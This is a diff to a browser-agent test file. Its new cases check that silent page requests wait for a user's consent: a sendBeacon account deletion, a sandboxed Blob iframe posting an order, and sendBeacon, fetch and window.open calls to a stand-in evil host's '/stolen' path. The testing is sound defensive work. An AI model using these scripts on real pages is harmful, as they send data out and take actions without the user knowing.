@@ -147,6 +147,21 @@ const kActions: ReadonlyArray<[name: string, controls: string, sends: string, qu
     /example\.test/,
   ],
   ['a file', '<a href=/report>Continue</a>', 'GET home.test/report', /downloads a file/],
+  [
+    'a beacon that deletes',
+    button("navigator.sendBeacon('/account/delete', 'x')"),
+    'POST home.test/account/delete x',
+    /POST home\.test:?\d*\/account\/delete/,
+  ],
+  [
+    'a frame in a sandbox that orders',
+    `<script type=text/plain id=s>fetch('http://home.test:{{port}}/orders', {method: 'POST', body: 'x', mode: 'no-cors'})</script>
+      <script>function bring() { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
+        f.src = URL.createObjectURL(new Blob(['<script>' + s.textContent + '</' + 'script>'], { type: 'text/html' }));
+        document.body.append(f) }</script>${button('bring()')}`,
+    'POST home.test/orders x',
+    /POST home\.test:?\d*\/orders/,
+  ],
 ];
 
 for (const [name, controls, sends, question] of kActions) {
@@ -180,14 +195,14 @@ const kOutOfSandbox: ReadonlyArray<[name: string, controls: string]> = [
 ];
 
 for (const [name, controls] of kOutOfSandbox) {
-  test(`a page that its server has put into a sandbox ${name}: not before a yes`, async () => {
+  test(`a page that its server has put into a sandbox ${name}: nothing without a yes`, async () => {
     const { task, asked } = await run(controls, [press()], false, 'sandbox');
     assert.deepEqual(received, []);
     assert.equal(asked.length, 1, JSON.stringify(task));
   });
 }
 
-test('a tab that is opened empty and led to another site a moment later: not before a yes', async () => {
+test('a tab that is opened empty and led to another site a moment later: nothing without a yes', async () => {
   const opens = button(`const w = window.open(); setTimeout(() => w.location = '${kEvil}/stolen', 100)`);
   const { task, asked } = await run(opens, [press()], false);
   assert.deepEqual(received, []);
@@ -296,6 +311,7 @@ test('a site that is blocked gets nothing, whatever is set otherwise', async () 
       `location = '${kEvil}/stolen'`,
       `fetch('${kEvil}/stolen', {method: 'POST'})`,
       `window.open('${kEvil}/stolen')`,
+      `navigator.sendBeacon('${kEvil}/stolen', 'x')`,
     ]) {
       const { task, asked } = await run(button(script), [press()], true);
       assert.deepEqual([task.status, asked, received], ['success', [], []], script);
